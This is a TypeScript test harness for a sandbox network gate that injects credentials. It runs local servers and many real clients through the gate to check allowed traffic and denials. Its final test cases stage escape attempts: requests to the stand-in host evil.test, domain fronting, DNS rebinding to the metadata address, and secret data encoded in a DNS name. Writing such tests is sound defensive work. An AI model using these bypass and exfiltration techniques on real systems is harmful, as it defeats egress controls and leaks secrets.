// Runs in the world that netns.py makes: servers and the gate here, unmodified clients in the sandbox's namespace.
// Prints one JSON line for each client: name, exit status, output.
import { execFile, spawn, spawnSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import https from "node:https";
import net from "node:net";
import { homedir, tmpdir } from "node:os";
import path from "node:path";
import process from "node:process";
import { promisify } from "node:util";
import { type GateListener, createGate } from "../../src/index.ts";
import { parseHost } from "../../src/net/host.ts";
import { upstreamAuthority } from "./upstream.ts";

const run = promisify(execFile);
const secret = `real-${randomBytes(20).toString("hex")}`;
const directory = mkdtempSync(path.join(tmpdir(), "nono-clients-"));
const at = (...parts: string[]): string => path.join(directory, ...parts);
const has = (tool: string): boolean =>
  spawnSync("sh", ["-c", `command -v ${tool} || test -x /usr/sbin/${tool}`]).status === 0;
const emit = (line: Record<string, unknown>): void => console.log(JSON.stringify(line));

/** An npm registry, a Python index and an echo, behind one certificate authority of their own. */
async function packageServer(): Promise<https.Server> {
  mkdirSync(at("npm", "package"), { recursive: true });
  writeFileSync(at("npm", "package", "package.json"), '{"name":"tiny","version":"1.0.0"}');
  spawnSync("tar", ["-czf", at("tiny.tgz"), "-C", at("npm"), "package"]);
  const wheel =
    "import sys, zipfile; z = zipfile.ZipFile(sys.argv[1], 'w');" +
    "z.writestr('tiny-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: tiny\\nVersion: 1.0\\n');" +
    "z.writestr('tiny-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n');" +
    "z.writestr('tiny-1.0.dist-info/RECORD', '')";
  spawnSync("python3", ["-c", wheel, at("tiny-1.0-py3-none-any.whl")]);
  const server = https.createServer(
    { SNICallback: (name, done) => done(null, upstreamAuthority.contextFor(parseHost(name))) },
    (request, response) => {
      const { host = "" } = request.headers;
      const authorized = request.headers.authorization === `Bearer ${secret}`;
      if (request.url === "/tiny" && host === "npm.test") {
        const dist = { tarball: "https://npm.test/tiny.tgz" };
        const versions = { "1.0.0": { name: "tiny", version: "1.0.0", dist } };
        response.setHeader("content-type", "application/json");
        response.end(JSON.stringify({ name: "tiny", "dist-tags": { latest: "1.0.0" }, versions }));
      } else if (request.url === "/tiny.tgz") response.end(readFileSync(at("tiny.tgz")));
      else if (request.url === "/simple/tiny/") {
        response.setHeader("content-type", "text/html");
        response.end('<a href="/tiny-1.0-py3-none-any.whl">tiny-1.0-py3-none-any.whl</a>');
      } else if (request.url?.endsWith(".whl") === true) {
        response.end(readFileSync(at("tiny-1.0-py3-none-any.whl")));
      } else
        response.end(`authorized=${authorized} echo=${request.headers.authorization ?? "none"}\n`);
    },
  );
  await new Promise<void>((resolve) => {
    server.listen(443, "93.184.216.34", resolve);
  });
  return server;
}

/** Debian's nginx over TLS with HTTP/2, and git's own http-backend behind it, which wants Basic credentials. */
function nginxServer(): (() => void) | undefined {
  if (!has("nginx") || !has("fcgiwrap")) return undefined;
  for (const name of ["repo.git", "logs"]) mkdirSync(at(name), { recursive: true });
  const git = (...args: string[]): void => void spawnSync("git", args, { cwd: directory });
  git("init", "--bare", "-b", "main", "repo.git");
  git("-C", "repo.git", "config", "http.receivepack", "true");
  git("init", "-b", "main", "seed");
  const identity = ["-c", "user.name=t", "-c", "user.email=t@nono.test"];
  git("-C", "seed", ...identity, "commit", "--allow-empty", "-m", "seed");
  git("-C", "seed", "push", at("repo.git"), "main");
  const request =
    "req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj /CN=git.test";
  const names = [
    "-addext",
    "subjectAltName=DNS:git.test",
    "-keyout",
    at("key.pem"),
    "-out",
    at("cert.pem"),
  ];
  spawnSync("openssl", [...request.split(" "), ...names]);
  writeFileSync(
    at("nginx.conf"),
    `user root; daemon off; pid ${at("pid")}; error_log ${at("logs", "error.log")};
events {}
http {
  access_log off; client_body_temp_path ${at("body")}; proxy_temp_path ${at("p")};
  fastcgi_temp_path ${at("f")}; uwsgi_temp_path ${at("u")}; scgi_temp_path ${at("s")};
  server {
    listen 93.184.216.35:443 ssl http2; server_name git.test;
    ssl_certificate ${at("cert.pem")}; ssl_certificate_key ${at("key.pem")};
    client_max_body_size 0;
    location / { return 200 "nginx $server_protocol\\n"; }
    location ~ ^/repo.git/ {
      if ($http_authorization != "Basic ${Buffer.from(`x-access-token:${secret}`).toString("base64")}") { return 401; }
      fastcgi_pass unix:${at("cgi.sock")};
      fastcgi_param SCRIPT_FILENAME /usr/lib/git-core/git-http-backend;
      fastcgi_param GIT_PROJECT_ROOT ${directory}; fastcgi_param GIT_HTTP_EXPORT_ALL 1;
      fastcgi_param PATH_INFO $uri; fastcgi_param QUERY_STRING $query_string;
      fastcgi_param REQUEST_METHOD $request_method; fastcgi_param CONTENT_TYPE $content_type;
      fastcgi_param CONTENT_LENGTH $content_length; fastcgi_param REMOTE_USER agent;
    }
  }
}
`,
  );
  const cgi = spawn("fcgiwrap", ["-s", `unix:${at("cgi.sock")}`], { stdio: "ignore" });
  const nginx = spawn("/usr/sbin/nginx", ["-c", at("nginx.conf")], { stdio: "ignore" });
  return () => {
    nginx.kill("SIGTERM");
    cgi.kill("SIGTERM");
  };
}

const listeners: GateListener[] = (
  JSON.parse(process.env["NONO_FDS"] ?? "[]") as Omit<GateListener, "destination">[]
).map((listener) => ({
  ...listener,
  destination: ({ localAddress, localPort }) => ({ address: localAddress, port: localPort }),
}));

const server = await packageServer();
const stopNginx = nginxServer();
const banner = net.createServer((peer) => void peer.end("SSH-2.0-test\r\n"));
await new Promise<void>((resolve) => {
  banner.listen(22, "93.184.216.34", resolve);
});
const value = { description: "the test's value", read: async () => Buffer.from(secret) };
const gate = createGate({
  allow: [
    "echo.test",
    "npm.test",
    "pypi.test",
    "git.test",
    "ssh.test:22",
    "rebound.test",
    "opaque.test",
  ],
  resolver: {
    resolve: async (name) =>
      name === "rebound.test"
        ? ["169.254.169.254"]
        : [name === "git.test" ? "93.184.216.35" : "93.184.216.34"],
  },
  tls: {
    ca: [
      upstreamAuthority.certificate,
      ...(stopNginx ? [readFileSync(at("cert.pem"), "utf8")] : []),
    ],
  },
  credentials: [
    { name: "ECHO_TOKEN", proxyTo: ["echo.test", "npm.test", "pypi.test"], source: value },
    {
      name: "GIT_TOKEN",
      proxyTo: "git.test",
      scheme: { type: "basic", username: "x-access-token" },
      source: value,
    },
  ],
});
await gate.serve(listeners);

writeFileSync(at("resolv.conf"), "nameserver 9.9.9.9\n");
const enter =
  'mount --bind "$1" /etc/resolv.conf; shift; exec setpriv --bounding-set=-all --inh-caps=-all "$@"';
const environment = {
  PATH: process.env["PATH"] ?? "",
  HOME: directory,
  GOCACHE: process.env["GOCACHE"] ?? path.join(homedir(), ".cache", "go-build"),
  GOFLAGS: "-mod=mod",
  GIT_CONFIG_GLOBAL: "/dev/null",
  GIT_TERMINAL_PROMPT: "0",
  npm_config_registry: "https://npm.test/",
  npm_config_cache: at("npm-cache"),
  npm_config_update_notifier: "false",
  ...gate.env(),
};

async function client(name: string, argv: string[], needs: string = argv[0] ?? ""): Promise<void> {
  if (!has(needs)) {
    emit({ name, skipped: `${needs} is not installed` });
    return;
  }
  const command = [
    `--net=${process.env["NONO_NETNS"]}`,
    "unshare",
    "--mount",
    "--propagation",
    "private",
    "sh",
    "-c",
    enter,
    "sh",
    at("resolv.conf"),
    ...argv,
  ];
  try {
    const options = { cwd: directory, env: environment, timeout: 60_000 };
    const { stdout, stderr } = await run("nsenter", command, options);
    emit({ name, status: 0, output: stdout + stderr });
  } catch (error) {
    const {
      code,
      stdout = "",
      stderr = "",
    } = error as { code?: number; stdout?: string; stderr?: string };
    emit({ name, status: code ?? -1, output: stdout + stderr });
  }
}

const node = process.execPath;
const goProgram = `package main
import ("fmt"; "io"; "net/http"; "os")
func main() {
  r, err := http.Get("https://echo.test/go")
  if err != nil { fmt.Println(err); os.Exit(1) }
  b, _ := io.ReadAll(r.Body); fmt.Print(string(b))
}
`;
writeFileSync(at("main.go"), goProgram);
writeFileSync(
  at("Echo.java"),
  `public class Echo { public static void main(String[] a) throws Exception {
    System.out.print(new String(new java.net.URL("https://echo.test/java").openStream().readAllBytes())); } }`,
);
const python =
  "import sys, urllib.request as u; print(u.urlopen('https://echo.test/py').read().decode())";
await client("curl", ["curl", "-sS", "https://echo.test/"]);
await client("curl h2 to nginx", ["curl", "-sS", "--http2", "https://git.test/"]);
await client("curl over IPv6", ["curl", "-6", "-sS", "https://echo.test/"]);
await client("node fetch", [
  node,
  "-e",
  "fetch('https://echo.test/').then(r=>r.text()).then(console.log)",
]);
await client("python urllib", ["python3", "-c", python]);
await client("wget", ["wget", "-qO-", "https://echo.test/"]);
await client("go net/http", ["go", "run", at("main.go")]);
await client("java", ["java", at("Echo.java")]);
await client("npm install", [
  "npm",
  "install",
  "--no-audit",
  "--no-fund",
  "--prefix",
  at("app"),
  "tiny",
]);
await client("pip download", [
  "python3",
  "-m",
  "pip",
  "download",
  "--no-deps",
  "--no-cache-dir",
  "--disable-pip-version-check",
  "-i",
  "https://pypi.test/simple",
  "-d",
  at("wheels"),
  "tiny",
]);
if (stopNginx) {
  await client("git clone", ["git", "clone", "-q", "https://git.test/repo.git", at("clone")]);
  const commit =
    "cd clone && git -c user.name=a -c user.email=a@nono.test commit -q --allow-empty -m agent && git push -q origin main";
  await client("git push", ["sh", "-c", commit], "git");
  const { stdout } = await run("git", ["-C", at("repo.git"), "log", "--format=%s"]);
  emit({ name: "pushed log", status: 0, output: stdout });
}
await client(
  "openssl s_client",
  [
    "sh",
    "-c",
    `printf 'GET / HTTP/1.0\\r\\nHost: echo.test\\r\\n\\r\\n' | openssl s_client -quiet -verify_return_error -CAfile "$SSL_CERT_FILE" -connect echo.test:443 -servername echo.test`,
  ],
  "openssl",
);
await client("opaque with its own certificate", ["curl", "-sS", "https://opaque.test/"]);
await client("server speaks first", [
  "python3",
  "-c",
  "import socket; print(socket.create_connection(('ssh.test', 22)).recv(99))",
]);
await client("denied name", ["curl", "-sS", "https://evil.test/"]);
await client("denied address", ["curl", "-sS", "-m", "5", "http://1.1.1.1/"]);
await client("fronting", [
  "curl",
  "-sS",
  "-m",
  "5",
  "--connect-to",
  "evil.test:443:echo.test:443",
  "https://evil.test/",
]);
await client("denied port", ["curl", "-sS", "-m", "5", "http://ssh.test:443/"]);
await client("rebinding", ["curl", "-sS", "-m", "5", "https://rebound.test/"]);
await client("data in a name", [
  "python3",
  "-c",
  "import socket; socket.getaddrinfo('c2VjcmV0.evil.test', 443)",
]);
await client("environment", ["env"]);
emit({ name: "violations", status: 0, output: JSON.stringify(gate.violations) });
emit({ name: "secret", status: 0, output: secret });
await gate.close();
stopNginx?.();
server.closeAllConnections();
server.close();
banner.close();
rmSync(directory, { recursive: true, force: true });
